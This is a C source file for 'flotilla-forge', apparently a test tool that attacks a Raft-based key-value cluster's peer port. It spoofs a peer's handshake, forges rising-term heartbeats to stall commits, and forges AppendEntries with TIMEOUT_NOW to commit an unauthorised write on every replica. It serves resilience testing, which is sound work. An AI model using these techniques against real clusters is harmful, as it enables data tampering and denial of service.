/* flotilla-forge: an attacker on a node's peer port, for the cluster tests.
 *
 *   flotilla-forge --peers ID=HOST:PORT,... --target ID --attack beats|append
 *                  [--client HOST:PORT] [--as ID] [--cluster-id C] [--shards S]
 *                  [--groups N] [--group G] [--key K] [--value V] [--duration S]
 *
 * It holds none of the cluster's credentials. It dials the target node's
 * peer address (from --peers) claiming to be node --as, completes the
 * plaintext peer handshake (shard/wire.c) once per shard, and sends
 * well-formed frames: valid checksums, every field as a real node encodes
 * it. Two attacks:
 *
 *   beats   for --duration seconds, every 100 ms, a heartbeat to every group
 *           1..N at a term one higher than the round before (from the
 *           group's term + 1): a node that believes them follows a leader
 *           that is not leading, term after term, and stops committing.
 *   append  group G: as the leader the target names (or --as), an
 *           AppendEntries one term up carrying a key-value PUT of --key
 *           (the node program's entry format, tools/kv.h) after the
 *           target's last entry (one for each term that entry may have),
 *           then TIMEOUT_NOW: a node that believes
 *           them campaigns at once with a log the others must vote for, and
 *           as leader commits the forged write on every replica. Repeated
 *           every 500 ms until the target's own copy holds the key or the
 *           time is up.
 *
 * To look real it learns what an attacker on the network could: the
 * claimed node's incarnation (a probe handshake to that node's peer port,
 * which answers with its own handshake before any authentication), and,
 * with --client, the target's shard count and each group's term, leader
 * and last index (NODE_STATUS and MEMBERS on the client port). Without
 * --client it guesses (--shards, term 1000).
 *
 * It prints what it did and what the node did: each handshake outcome the
 * first time it is seen (accepted; refused at the handshake, the
 * connection closed without an answer; refused as a second process with
 * the claimed id; asked for a shared-key proof and closed after a made-up
 * one), connections the node closed after frames, and the counts. The last
 * line is
 *   forge: summary: accepted A refused R closed-after-frames C frames F
 * Exit status 0 once the attack ran its course (the test judges the
 * cluster), 1 when nothing could be dialled, 2 on bad usage. */
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/le.h"
#include "engine/raft.h"
#include "shard/wire.h"
#include "tools/client.h"

#define FORGE_PEERS_MAX   16
#define FORGE_SHARDS_MAX  64
#define FORGE_GROUPS_MAX  100000
#define FORGE_IO_MS       2000
#define FORGE_BEAT_MS     100
#define FORGE_APPEND_MS   500
#define FORGE_REDIAL_MS   500
#define FORGE_TERM_GUESS  1000
#define FORGE_PROOF_SIZE  32 /* A shared-key challenge and proof (shard/auth.h). */
#define FORGE_KV_HEADER   16 /* tools/kv.h: u32 op, key_size, expected_size, value_size. */
#define FORGE_KV_OP_PUT   1
#define FORGE_PAYLOAD_MAX 1024
#define FORGE_RECON_MS    2000
#define FORGE_OUTCOMES    5
#define FORGE_LOG_TERMS   256 /* Guesses at the term of the target's last entry. */

enum forge_outcome {
	FORGE_ACCEPTED,         /* Answered our handshake: frames go out on it. */
	FORGE_REFUSED_SILENT,   /* Closed (or timed out) without a handshake answer. */
	FORGE_REFUSED_IDENTITY, /* Answered WIRE_HANDSHAKE_REFUSED: another process is the id. */
	FORGE_REFUSED_AUTH,     /* Asked for a shared-key proof; closed after our made-up one. */
	FORGE_UNREACHABLE,      /* connect() failed. */
};

static const char *const forge_outcome_text[FORGE_OUTCOMES] = {
    "accepted: the node answered our handshake as a peer's",
    "refused at the handshake: the connection closed without a handshake answer",
    "refused: the node answered that another process is the claimed node",
    "refused at authentication: the node asked for a shared-key proof and closed after our "
    "made-up one",
    "unreachable: connect failed",
};

struct forge_peer {
	uint64_t id;
	struct sockaddr_in addr;
};

struct forge {
	struct forge_peer peers[FORGE_PEERS_MAX];
	uint32_t peers_count;
	uint64_t target, as, cluster_id, group, groups_count;
	uint32_t shards_count;
	const char *client_addr, *attack, *key, *value;
	double duration_s;
	struct client client; /* Reconnaissance on the target's client port; fd -1: none. */
	uint64_t incarnation; /* Of the claimed node, as its probe answered. */
	bool auth;            /* The last refusal without an answer: try with AUTH flags. */
	int fds[FORGE_SHARDS_MAX];
	uint64_t redial_at_ms;
	uint64_t counts[FORGE_OUTCOMES], closed_after_frames, frames;
	bool seen[FORGE_OUTCOMES];
};

static uint64_t forge_now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static void forge_sleep_ms(uint64_t ms)
{
	struct timespec ts = {.tv_sec = (time_t)(ms / 1000),
			      .tv_nsec = (long)(ms % 1000) * 1000000};

	nanosleep(&ts, NULL);
}

static const struct forge_peer *forge_peer_of(const struct forge *f, uint64_t id)
{
	for (uint32_t i = 0; i < f->peers_count; i++)
		if (f->peers[i].id == id)
			return &f->peers[i];
	return NULL;
}

/* Exactly size bytes, each wait at most FORGE_IO_MS. Returns 0, -ETIMEDOUT,
 * -ECONNRESET (closed) or -errno. */
static int forge_io(int fd, void *buf, size_t size, bool sending)
{
	size_t done = 0;

	while (done < size) {
		struct pollfd pfd = {.fd = fd, .events = sending ? POLLOUT : POLLIN};
		ssize_t n;
		int rv = poll(&pfd, 1, FORGE_IO_MS);

		if (rv == 0)
			return -ETIMEDOUT;
		if (rv < 0)
			return errno == EINTR ? -ETIMEDOUT : -errno;
		n = sending ? send(fd, (char *)buf + done, size - done, MSG_NOSIGNAL)
			    : recv(fd, (char *)buf + done, size - done, 0);
		if (n == 0)
			return -ECONNRESET;
		if (n < 0 && errno != EINTR && errno != EAGAIN)
			return -errno;
		if (n > 0)
			done += (size_t)n;
	}
	return 0;
}

static int forge_dial(const struct forge_peer *p)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -errno;
	if (connect(fd, (const struct sockaddr *)&p->addr, sizeof(p->addr)) != 0) {
		int rv = -errno;

		close(fd);
		return rv;
	}
	return fd;
}

/* Whether the node closed fd: it never sends on a connection it accepted,
 * so anything readable is the end. */
static bool forge_is_closed(int fd)
{
	struct pollfd pfd = {.fd = fd, .events = POLLIN};
	uint8_t buf[64];

	return poll(&pfd, 1, 0) == 1 && recv(fd, buf, sizeof(buf), MSG_DONTWAIT) <= 0;
}

static void forge_handshake(const struct forge *f, uint64_t claimed, uint32_t shard, uint32_t flags,
			    uint8_t *buf)
{
	struct wire_handshake hs = {
	    .version = WIRE_VERSION,
	    .flags = flags | (f->auth ? WIRE_HANDSHAKE_AUTH | WIRE_HANDSHAKE_AUTH_FRAMES : 0),
	    .cluster_id = f->cluster_id,
	    .node_id = claimed,
	    .shard_index = shard,
	    .shard_count = f->shards_count,
	    .incarnation = f->incarnation};

	wire_handshake_encode(&hs, buf);
}

/* Ask the claimed node who it is: its handshake answers a probe (claiming
 * to be the target) before any proof is asked. Tries without, then with,
 * the shared-key flags. */
static void forge_probe(struct forge *f)
{
	const struct forge_peer *p = forge_peer_of(f, f->as);

	for (int attempt = 0; attempt < 2; attempt++) {
		uint8_t buf[WIRE_HANDSHAKE_SIZE];
		struct wire_handshake hs;
		int fd = forge_dial(p), rv;

		if (fd < 0)
			break;
		forge_handshake(f, f->target, 0, WIRE_HANDSHAKE_PROBE, buf);
		rv = forge_io(fd, buf, sizeof(buf), true);
		if (rv == 0)
			rv = forge_io(fd, buf, sizeof(buf), false);
		close(fd);
		if (rv == 0 && wire_handshake_decode(&hs, buf) == 0) {
			f->incarnation = hs.incarnation;
			printf("forge: probe of node %llu's peer port: answered, incarnation "
			       "%016llx%s\n",
			       (unsigned long long)f->as, (unsigned long long)hs.incarnation,
			       f->auth ? " (with the shared-key flags)" : "");
			return;
		}
		f->auth = !f->auth;
	}
	f->auth = false;
	printf("forge: probe of node %llu's peer port: no handshake answer; claiming a made-up "
	       "incarnation\n",
	       (unsigned long long)f->as);
}

static void forge_note(struct forge *f, enum forge_outcome o, uint32_t shard)
{
	f->counts[o]++;
	if (f->seen[o])
		return;
	f->seen[o] = true;
	printf("forge: dialled node %llu (shard %u) as node %llu%s: %s\n",
	       (unsigned long long)f->target, shard, (unsigned long long)f->as,
	       f->auth ? " with the shared-key flags" : "", forge_outcome_text[o]);
}

/* A shared-key exchange we cannot win: our challenge, theirs, a made-up
 * proof, theirs; then the node checks ours and closes. */
static void forge_fake_proof(int fd)
{
	uint8_t mine[FORGE_PROOF_SIZE], theirs[FORGE_PROOF_SIZE];

	for (size_t i = 0; i < sizeof(mine); i++)
		mine[i] = (uint8_t)rand();
	if (forge_io(fd, mine, sizeof(mine), true) != 0 ||
	    forge_io(fd, theirs, sizeof(theirs), false) != 0 ||
	    forge_io(fd, mine, sizeof(mine), true) != 0)
		return;
	(void)forge_io(fd, theirs, sizeof(theirs), false);
	for (int i = 0; i < 20 && !forge_is_closed(fd); i++)
		forge_sleep_ms(50);
}

/* Dial the target for shard as node f->as. Returns the socket when the node
 * accepted us, else -1 (the outcome noted). */
static int forge_connect(struct forge *f, uint32_t shard)
{
	const struct forge_peer *p = forge_peer_of(f, f->target);
	uint8_t buf[WIRE_HANDSHAKE_SIZE];
	struct wire_handshake hs;
	int fd = forge_dial(p);

	if (fd < 0) {
		forge_note(f, FORGE_UNREACHABLE, shard);
		return -1;
	}
	forge_handshake(f, f->as, shard, 0, buf);
	if (forge_io(fd, buf, sizeof(buf), true) != 0 ||
	    forge_io(fd, buf, sizeof(buf), false) != 0 || wire_handshake_decode(&hs, buf) != 0) {
		forge_note(f, FORGE_REFUSED_SILENT, shard);
		f->auth = !f->auth; /* Perhaps it wants the shared-key flags, or not. */
		close(fd);
		return -1;
	}
	if (hs.flags & WIRE_HANDSHAKE_REFUSED) {
		forge_note(f, FORGE_REFUSED_IDENTITY, shard);
		close(fd);
		return -1;
	}
	if (hs.flags & WIRE_HANDSHAKE_AUTH) {
		forge_fake_proof(fd);
		forge_note(f, FORGE_REFUSED_AUTH, shard);
		close(fd);
		return -1;
	}
	forge_note(f, FORGE_ACCEPTED, shard);
	return fd;
}

/* Send frame on every shard's connection, dialling those not open (at most
 * every FORGE_REDIAL_MS). */
static void forge_send(struct forge *f, const uint8_t *frame, size_t size)
{
	uint64_t now = forge_now_ms();
	bool redial = now >= f->redial_at_ms;

	if (redial)
		f->redial_at_ms = now + FORGE_REDIAL_MS;
	for (uint32_t i = 0; i < f->shards_count; i++) {
		if (f->fds[i] < 0 && redial)
			f->fds[i] = forge_connect(f, i);
		if (f->fds[i] < 0)
			continue;
		if (forge_is_closed(f->fds[i]) ||
		    forge_io(f->fds[i], (void *)frame, size, true) != 0) {
			if (f->closed_after_frames++ == 0)
				printf(
				    "forge: node %llu closed a connection on which it had accepted "
				    "us\n",
				    (unsigned long long)f->target);
			close(f->fds[i]);
			f->fds[i] = -1;
			continue;
		}
		f->frames++;
	}
}

static void forge_close_all(struct forge *f)
{
	for (uint32_t i = 0; i < FORGE_SHARDS_MAX; i++) {
		if (f->fds[i] >= 0)
			close(f->fds[i]);
		f->fds[i] = -1;
	}
}

/* One request on the target's client port; the answer's value (at most
 * cap bytes) into value. Returns the status, or -1 when unanswered. */
static int forge_ask(struct forge *f, const struct client_request *req, void *value, uint32_t cap,
		     uint32_t *value_size)
{
	static uint64_t next_id = 1;
	struct client_request r = *req;
	struct client_response resp;
	uint64_t deadline = forge_now_ms() + FORGE_RECON_MS;

	if (f->client_addr == NULL)
		return -1;
	if (f->client.fd < 0 && client_connect(&f->client, f->client_addr, FORGE_RECON_MS) != 0)
		return -1;
	r.request_id = next_id++;
	if (client_send(&f->client, &r) != 0)
		goto err;
	while (forge_now_ms() < deadline) {
		if (client_wait(&f->client, &resp, FORGE_RECON_MS) != 0)
			goto err;
		if (resp.request_id != r.request_id)
			continue; /* A late answer to an earlier question. */
		*value_size = resp.value_size < cap ? resp.value_size : cap;
		memcpy(value, resp.value, *value_size);
		return (int)resp.status;
	}
err:
	client_close(&f->client);
	f->client.fd = -1;
	return -1;
}

static bool forge_members(struct forge *f, uint64_t group, struct client_members *m)
{
	struct client_request req = {.op = CLIENT_OP_MEMBERS, .group = group};
	uint8_t value[CLIENT_MEMBERS_HEADER_SIZE + CLIENT_MEMBERS_MAX * CLIENT_MEMBER_SIZE];
	uint32_t size = 0;

	return forge_ask(f, &req, value, sizeof(value), &size) == CLIENT_STATUS_OK &&
	       client_members_decode(value, size, m) == 0;
}

/* Whether the target's own copy of group holds the forged key (LOCAL_GET). */
static bool forge_key_is_there(struct forge *f)
{
	struct client_request req = {.op = CLIENT_OP_LOCAL_GET,
				     .group = f->group,
				     .key = f->key,
				     .key_size = (uint32_t)strlen(f->key)};
	uint8_t value[FORGE_PAYLOAD_MAX];
	uint32_t size = 0;

	return forge_ask(f, &req, value, sizeof(value), &size) == CLIENT_STATUS_OK;
}

static void forge_recon_node(struct forge *f)
{
	struct client_request req = {.op = CLIENT_OP_NODE_STATUS};
	uint8_t value[CLIENT_NODE_STATUS_SIZE];
	struct client_node_status st;
	uint32_t size = 0;

	if (forge_ask(f, &req, value, sizeof(value), &size) == CLIENT_STATUS_OK &&
	    client_node_status_decode(value, size, &st) == 0 && st.shards_count > 0 &&
	    st.shards_count <= FORGE_SHARDS_MAX) {
		f->shards_count = st.shards_count;
		printf("forge: node %llu runs %u shards (its client port told us)\n",
		       (unsigned long long)f->target, f->shards_count);
	}
}

static void forge_beats(struct forge *f)
{
	size_t size = WIRE_FRAME_HEADER_SIZE + f->groups_count * WIRE_BEAT_SIZE;
	uint8_t *frame = calloc(1, size);
	uint64_t *terms = calloc(f->groups_count + 1, sizeof(*terms));
	uint64_t end = forge_now_ms() + (uint64_t)(f->duration_s * 1000), round = 0;
	struct client_members m;

	if (frame == NULL || terms == NULL) {
		fprintf(stderr, "flotilla-forge: out of memory\n");
		exit(1);
	}
	for (uint64_t g = 1; g <= f->groups_count; g++)
		terms[g] = forge_members(f, g, &m) ? m.term + 1 : FORGE_TERM_GUESS;
	printf("forge: heartbeats to groups 1..%llu of node %llu as node %llu, from term %llu "
	       "(group 1) up, one term more every %d ms, for %.1f s\n",
	       (unsigned long long)f->groups_count, (unsigned long long)f->target,
	       (unsigned long long)f->as, (unsigned long long)terms[1], FORGE_BEAT_MS,
	       f->duration_s);
	for (; forge_now_ms() < end; round++) {
		for (uint64_t g = 1; g <= f->groups_count; g++) {
			struct raft_msg beat = {.group = g,
						.from = f->as,
						.to = f->target,
						.term = terms[g] + round,
						.context = round + 1,
						.type = RAFT_MSG_HEARTBEAT};

			wire_beat_encode(&beat,
					 frame + WIRE_FRAME_HEADER_SIZE + (g - 1) * WIRE_BEAT_SIZE);
		}
		wire_frame_seal(frame, WIRE_FRAME_HEARTBEATS,
				(uint32_t)(size - WIRE_FRAME_HEADER_SIZE));
		forge_send(f, frame, size);
		forge_sleep_ms(FORGE_BEAT_MS);
	}
	if (forge_members(f, 1, &m))
		printf("forge: after %llu rounds node %llu says group 1 is at term %llu (leader "
		       "%llu); the last forged term was %llu\n",
		       (unsigned long long)round, (unsigned long long)f->target,
		       (unsigned long long)m.term, (unsigned long long)m.leader,
		       (unsigned long long)(terms[1] + round - 1));
	free(terms);
	free(frame);
}

/* AppendEntries carrying the forged PUT after the target's last entry, then
 * TIMEOUT_NOW, in one frame, as node f->as. The term of that last entry is
 * not told (MEMBERS gives the group's term, which rises without elections
 * too): one AppendEntries for each term it may be, newest first, up to
 * FORGE_LOG_TERMS of them; those that do not match are refused, harmlessly,
 * and the one that matches appends the entry. */
static void forge_append_once(struct forge *f, const struct client_members *m)
{
	uint64_t guesses = m->term < FORGE_LOG_TERMS ? m->term : FORGE_LOG_TERMS;
	uint8_t payload[FORGE_PAYLOAD_MAX], *frame;
	uint32_t key_size = (uint32_t)strlen(f->key), value_size = (uint32_t)strlen(f->value);
	struct raft_entry entry = {.term = m->term + 1,
				   .index = m->last_index + 1,
				   .type = RAFT_ENTRY_NORMAL,
				   .size = FORGE_KV_HEADER + key_size + value_size,
				   .data = payload};
	struct raft_msg append = {.group = f->group,
				  .from = f->as,
				  .to = f->target,
				  .term = m->term + 1,
				  .index = m->last_index,
				  .commit = m->commit_index,
				  .type = RAFT_MSG_APPEND,
				  .entries_count = 1,
				  .entries = &entry};
	struct raft_msg now = {.group = f->group,
			       .from = f->as,
			       .to = f->target,
			       .term = m->term + 1,
			       .type = RAFT_MSG_TIMEOUT_NOW};
	size_t size =
		   WIRE_FRAME_HEADER_SIZE + guesses * wire_msg_size(&append) + wire_msg_size(&now),
	       off;

	le_put32(payload, FORGE_KV_OP_PUT);
	le_put32(payload + 4, key_size);
	le_put32(payload + 8, 0);
	le_put32(payload + 12, value_size);
	memcpy(payload + FORGE_KV_HEADER, f->key, key_size);
	memcpy(payload + FORGE_KV_HEADER + key_size, f->value, value_size);
	frame = calloc(1, size);
	if (frame == NULL) {
		fprintf(stderr, "flotilla-forge: out of memory\n");
		exit(1);
	}
	off = WIRE_FRAME_HEADER_SIZE;
	for (uint64_t i = 0; i < guesses; i++) {
		append.log_term = m->term - i;
		off += wire_msg_encode(&append, frame + off);
	}
	off += wire_msg_encode(&now, frame + off);
	wire_frame_seal(frame, WIRE_FRAME_RAFT, (uint32_t)(off - WIRE_FRAME_HEADER_SIZE));
	forge_send(f, frame, off);
	free(frame);
}

static void forge_append(struct forge *f)
{
	uint64_t end = forge_now_ms() + (uint64_t)(f->duration_s * 1000), as = f->as, sent = 0;
	struct client_members m = {.term = FORGE_TERM_GUESS};
	bool known, there = false;

	printf("forge: AppendEntries with PUT %s=%s then TIMEOUT_NOW to group %llu of node %llu, "
	       "every %d ms for %.1f s\n",
	       f->key, f->value, (unsigned long long)f->group, (unsigned long long)f->target,
	       FORGE_APPEND_MS, f->duration_s);
	while (!there && forge_now_ms() < end) {
		known = forge_members(f, f->group, &m);
		if (known && (m.flags & CLIENT_MEMBERS_LEADER) != 0) {
			there = forge_key_is_there(f);
			if (!there)
				forge_sleep_ms(
				    FORGE_APPEND_MS); /* It leads: wait for a follower's view. */
			continue;
		}
		/* Claim the leader the target follows: its term's leader is who
		 * it expects appends and TIMEOUT_NOW from. */
		if (known && m.leader != 0 && m.leader != f->target && forge_peer_of(f, m.leader) &&
		    m.leader != as) {
			as = f->as = m.leader;
			forge_close_all(f);
			forge_probe(f);
		}
		if (sent++ == 0 || sent % 4 == 0)
			printf(
			    "forge: node %llu%s: group %llu at term %llu, last index %llu, "
			    "leader %llu; sending as node %llu an entry at index %llu, term %llu\n",
			    (unsigned long long)f->target, known ? "" : " (not told: guessing)",
			    (unsigned long long)f->group, (unsigned long long)m.term,
			    (unsigned long long)m.last_index, (unsigned long long)m.leader,
			    (unsigned long long)f->as, (unsigned long long)m.last_index + 1,
			    (unsigned long long)m.term + 1);
		forge_append_once(f, &m);
		forge_sleep_ms(FORGE_APPEND_MS);
		there = forge_key_is_there(f);
	}
	if (there && forge_members(f, f->group, &m))
		printf("forge: node %llu's copy of group %llu holds the forged key %s (LOCAL_GET); "
		       "it %s the group at term %llu\n",
		       (unsigned long long)f->target, (unsigned long long)f->group, f->key,
		       (m.flags & CLIENT_MEMBERS_LEADER) ? "leads" : "follows in",
		       (unsigned long long)m.term);
	else if (f->client_addr != NULL)
		printf("forge: node %llu's copy of group %llu does not hold the forged key\n",
		       (unsigned long long)f->target, (unsigned long long)f->group);
}

static bool forge_parse_peers(struct forge *f, const char *spec)
{
	char buf[1024], *save = NULL;

	if (strlen(spec) >= sizeof(buf))
		return false;
	strcpy(buf, spec);
	for (char *tok = strtok_r(buf, ",", &save); tok != NULL; tok = strtok_r(NULL, ",", &save)) {
		char *eq = strchr(tok, '=');
		struct forge_peer *p = &f->peers[f->peers_count];

		if (eq == NULL || f->peers_count == FORGE_PEERS_MAX)
			return false;
		*eq = '\0';
		p->id = strtoull(tok, NULL, 10);
		if (p->id == 0 || client_parse_addr(eq + 1, &p->addr) != 0)
			return false;
		f->peers_count++;
	}
	return f->peers_count > 0;
}

static void forge_usage(void)
{
	fprintf(
	    stderr,
	    "usage: flotilla-forge --peers ID=HOST:PORT,... --target ID --attack beats|append\n"
	    "         [--client HOST:PORT] [--as ID] [--cluster-id C (1)] [--shards S (2)]\n"
	    "         [--groups N (1)] [--group G (1)] [--key K] [--value V] [--duration S (5)]\n");
	exit(2);
}

static void forge_options(struct forge *f, int argc, char **argv)
{
	static const struct option opts[] = {{"peers", required_argument, NULL, 'p'},
					     {"target", required_argument, NULL, 't'},
					     {"attack", required_argument, NULL, 'a'},
					     {"client", required_argument, NULL, 'c'},
					     {"as", required_argument, NULL, 's'},
					     {"cluster-id", required_argument, NULL, 'i'},
					     {"shards", required_argument, NULL, 'S'},
					     {"groups", required_argument, NULL, 'n'},
					     {"group", required_argument, NULL, 'g'},
					     {"key", required_argument, NULL, 'k'},
					     {"value", required_argument, NULL, 'v'},
					     {"duration", required_argument, NULL, 'd'},
					     {NULL, 0, NULL, 0}};
	int c;

	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (c) {
		case 'p':
			if (!forge_parse_peers(f, optarg))
				forge_usage();
			break;
		case 't':
			f->target = strtoull(optarg, NULL, 10);
			break;
		case 'a':
			f->attack = optarg;
			break;
		case 'c':
			f->client_addr = optarg;
			break;
		case 's':
			f->as = strtoull(optarg, NULL, 10);
			break;
		case 'i':
			f->cluster_id = strtoull(optarg, NULL, 10);
			break;
		case 'S':
			f->shards_count = (uint32_t)strtoul(optarg, NULL, 10);
			break;
		case 'n':
			f->groups_count = strtoull(optarg, NULL, 10);
			break;
		case 'g':
			f->group = strtoull(optarg, NULL, 10);
			break;
		case 'k':
			f->key = optarg;
			break;
		case 'v':
			f->value = optarg;
			break;
		case 'd':
			f->duration_s = strtod(optarg, NULL);
			break;
		default:
			forge_usage();
		}
	}
	if (f->attack == NULL || forge_peer_of(f, f->target) == NULL || f->shards_count == 0 ||
	    f->shards_count > FORGE_SHARDS_MAX || f->groups_count == 0 ||
	    f->groups_count > FORGE_GROUPS_MAX || f->group == 0 || !(f->duration_s > 0) ||
	    f->duration_s > 600 ||
	    FORGE_KV_HEADER + strlen(f->key) + strlen(f->value) > FORGE_PAYLOAD_MAX ||
	    (strcmp(f->attack, "beats") != 0 && strcmp(f->attack, "append") != 0))
		forge_usage();
	if (f->as == 0) /* Any other node; append switches to the target's leader. */
		for (uint32_t i = 0; i < f->peers_count && f->as == 0; i++)
			if (f->peers[i].id != f->target)
				f->as = f->peers[i].id;
	if (f->as == f->target || forge_peer_of(f, f->as) == NULL)
		forge_usage();
}

int main(int argc, char **argv)
{
	static struct forge f = {.cluster_id = 1,
				 .shards_count = 2,
				 .groups_count = 1,
				 .group = 1,
				 .key = "forged-key",
				 .value = "written-by-no-client",
				 .duration_s = 5,
				 .client = {.fd = -1}};

	setvbuf(stdout, NULL, _IOLBF, 0);
	srand((unsigned)time(NULL) ^ (unsigned)getpid());
	forge_close_all(&f);
	forge_options(&f, argc, argv);
	forge_recon_node(&f);
	forge_probe(&f);
	if (strcmp(f.attack, "beats") == 0)
		forge_beats(&f);
	else
		forge_append(&f);
	forge_close_all(&f);
	client_close(&f.client);
	printf("forge: summary: accepted %llu refused %llu closed-after-frames %llu frames %llu\n",
	       (unsigned long long)f.counts[FORGE_ACCEPTED],
	       (unsigned long long)(f.counts[FORGE_REFUSED_SILENT] +
				    f.counts[FORGE_REFUSED_IDENTITY] +
				    f.counts[FORGE_REFUSED_AUTH]),
	       (unsigned long long)f.closed_after_frames, (unsigned long long)f.frames);
	return f.counts[FORGE_UNREACHABLE] > 0 && f.frames == 0 &&
		       f.counts[FORGE_ACCEPTED] + f.counts[FORGE_REFUSED_SILENT] +
			       f.counts[FORGE_REFUSED_IDENTITY] + f.counts[FORGE_REFUSED_AUTH] ==
			   0
		   ? 1
		   : 0;
}
